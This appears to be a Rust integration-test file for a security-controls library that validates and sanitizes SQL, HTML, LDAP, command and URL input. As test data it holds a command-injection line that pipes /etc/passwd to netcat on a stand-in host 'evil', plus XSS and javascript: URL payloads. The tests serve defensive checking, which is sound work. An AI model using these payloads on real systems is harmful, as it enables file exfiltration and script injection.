/// Integration tests for the controls library

#[cfg(test)]
mod tests {
    use controls_core::registry::{Category, ControlKind};
    use controls_core::security::*;
    use controls_core::{ControlRegistry, ControlsConfig, ControlsError, Outcome, Rejection, Scenario};
    use std::io::Write;

    #[test]
    fn test_absent_input_conventions() {
        // safe by default
        assert!(is_safe_sql_input(None));
        assert!(is_safe_html_input(None));
        assert!(is_safe_text_pattern(None));
        assert!(is_safe_command_input(None));
        assert!(is_safe_ldap_input(None));

        // unsafe by default
        assert!(!is_safe_username(None));
        assert!(!is_numeric(None));
        assert!(!is_valid_host(None));
        assert!(!is_safe_path(None));
        assert!(!is_valid_email(None));
        assert!(!is_safe_url(None));

        // empty follows absent for every validator
        let registry = ControlRegistry::builtin();
        for spec in registry.iter().filter(|spec| spec.kind() == ControlKind::Validator) {
            assert_eq!(spec.run(None), spec.run(Some("")), "{}", spec.name);
        }
    }

    #[test]
    fn test_sanitizers_keep_absent_and_empty() {
        let registry = ControlRegistry::builtin();
        for spec in registry.iter().filter(|spec| spec.kind() == ControlKind::Sanitizer) {
            assert_eq!(spec.run(None), Outcome::Sanitized(None), "{}", spec.name);
            assert_eq!(spec.run(Some("")), Outcome::Sanitized(Some(String::new())), "{}", spec.name);
        }
    }

    #[test]
    fn test_documented_properties() {
        assert_eq!(strip_html_tags(Some("<b>bold</b>")).as_deref(), Some("bold"));
        assert!(is_valid_host(Some("999.999.999.999")));
        assert!(!is_valid_host(Some("host|cmd")));
        assert_eq!(sanitize_ldap_input(Some("*")).as_deref(), Some("\\2a"));
        assert_eq!(sanitize_ldap_input(Some("(cn=*)")).as_deref(), Some("\\28cn=\\2a\\29"));
        assert!(!is_safe_username(Some("jo")));
        assert!(is_safe_username(Some("john_doe")));
        assert!(!is_safe_url(Some("javascript:alert(1)")));
        assert!(is_safe_url(Some("HTTP://EXAMPLE.COM")));
    }

    #[test]
    fn test_sql_allow_list_accepts_every_allowed_character() {
        let alphabet: String = ('a'..='z')
            .chain('A'..='Z')
            .chain('0'..='9')
            .chain(['_', '@', '.', '-'])
            .collect();
        assert!(is_safe_sql_input(Some(&alphabet)));
        for c in alphabet.chars() {
            assert!(is_safe_sql_input(Some(&c.to_string())), "{c:?}");
        }
        for c in ['\'', '"', ';', '\\', ' ', '*', '/', '#', '='] {
            assert!(!is_safe_sql_input(Some(&format!("a{c}b"))), "{c:?}");
        }
    }

    #[test]
    fn test_validate_then_sanitize_chain() {
        // sanitizer output for command input passes the validator
        let raw = "8.8.8.8; cat /etc/passwd | nc evil 80";
        assert!(!is_safe_command_input(Some(raw)));
        let cleaned = sanitize_command_input(Some(raw));
        assert!(is_safe_command_input(cleaned.as_deref()));

        // escaped LDAP input still fails the validator: the escapes use '\'
        let escaped = sanitize_ldap_input(Some("a*b"));
        assert!(!is_safe_ldap_input(escaped.as_deref()));

        // html encoding removes every angle bracket
        let encoded = sanitize_html_output(Some("<img src=x onerror=alert(1)>"));
        assert!(!encoded.as_deref().unwrap().contains('<'));
    }

    #[test]
    fn test_registry_covers_every_category() {
        let registry = ControlRegistry::builtin();
        for category in Category::ALL {
            let signatures: Vec<String> = registry.by_category(category).map(|spec| spec.signature()).collect();
            assert!(!signatures.is_empty());
            for signature in signatures {
                assert!(signature.starts_with("controls_core::security::"));
                assert!(signature.ends_with("(Option<&str>*)"));
            }
        }
    }

    #[test]
    fn test_scenarios_end_to_end() {
        assert_eq!(
            Scenario::SqlValidated.run(&["alice", "pw"]).unwrap().unwrap(),
            "SELECT * FROM users WHERE username = 'alice' AND password = 'pw'"
        );
        assert_eq!(
            Scenario::XssValidated.run(&["<b>x</b>"]).unwrap(),
            Err(Rejection::UnsafeHtml)
        );
        assert_eq!(
            Scenario::UrlValidated.run(&["gopher://x"]).unwrap(),
            Err(Rejection::UnsafeUrl)
        );
        for scenario in Scenario::ALL {
            let args = vec!["x"; scenario.arity()];
            assert!(scenario.run(&args).is_ok(), "{scenario}");
        }
    }

    #[test]
    fn test_config_file_round_trip() {
        let mut file = tempfile::NamedTempFile::new().unwrap();
        writeln!(
            file,
            r#"
[logging]
level = "warn"

[controls]
enabled = ["is-valid-email", "is_safe_url"]

[metrics]
enabled = true
"#
        )
        .unwrap();

        let config = ControlsConfig::load(file.path()).unwrap();
        let registry = config.build_registry().unwrap();
        assert_eq!(registry.len(), 2);

        registry.apply("is_safe_url", Some("ftp://x")).unwrap();
        registry.apply("is_valid_email", Some("a@b.co")).unwrap();
        assert!(matches!(
            registry.apply("is_safe_path", Some("x")),
            Err(ControlsError::UnknownControl(_))
        ));

        let metrics = registry.metrics().unwrap();
        assert_eq!(metrics.stats().invocations, 2);
        assert_eq!(metrics.stats().rejections, 1);
    }

    #[test]
    fn test_missing_config_file_is_io_error() {
        let dir = tempfile::tempdir().unwrap();
        let err = ControlsConfig::load(dir.path().join("missing.toml")).unwrap_err();
        assert!(matches!(err, ControlsError::Io(_)));
    }

    #[test]
    fn test_registry_is_shareable_across_threads() {
        let registry = std::sync::Arc::new(ControlRegistry::builtin());
        let handles: Vec<_> = (0..4)
            .map(|i| {
                let registry = registry.clone();
                std::thread::spawn(move || {
                    let input = format!("user{i}");
                    registry.apply("is_safe_username", Some(&input)).unwrap()
                })
            })
            .collect();

        for handle in handles {
            assert_eq!(handle.join().unwrap(), Outcome::Verdict(true));
        }
    }
}
